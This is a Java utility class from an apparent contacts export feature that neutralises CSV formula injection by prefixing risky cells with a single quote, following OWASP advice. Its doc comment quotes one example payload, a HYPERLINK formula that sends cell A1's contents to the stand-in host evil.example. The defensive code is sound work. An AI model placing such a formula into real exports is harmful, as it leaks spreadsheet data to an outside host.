package app.rapport.contact.csv;

/**
 * Defuses CSV ("formula") injection in exported cells.
 *
 * <p>Spreadsheets treat a cell starting with {@code =}, {@code +}, {@code -} or {@code @} as a
 * formula, and one starting with a tab or carriage return can hide such a start; a contact whose
 * company is {@code =HYPERLINK("https://evil.example?"&A1,"Click")} would run when the export is
 * opened. Following the OWASP advice (owasp.org/www-community/attacks/CSV_Injection), such a cell
 * is prefixed with a single quote, which spreadsheets read as "text follows" and do not display,
 * and every cell is written quoted with embedded quotes doubled ({@link ContactCsvWriter}). The
 * price is a visible quote in the rare honest value such as "-5" or "+44 20 …" when the file is
 * read by a program rather than a spreadsheet.
 */
public final class CsvCells {

  private CsvCells() {}

  /** The cell, prefixed with {@code '} when it starts with = + - @ tab or CR; null becomes "". */
  public static String neutralise(String cell) {
    if (cell == null || cell.isEmpty()) {
      return "";
    }
    return switch (cell.charAt(0)) {
      case '=', '+', '-', '@', '\t', '\r' -> "'" + cell;
      default -> cell;
    };
  }
}
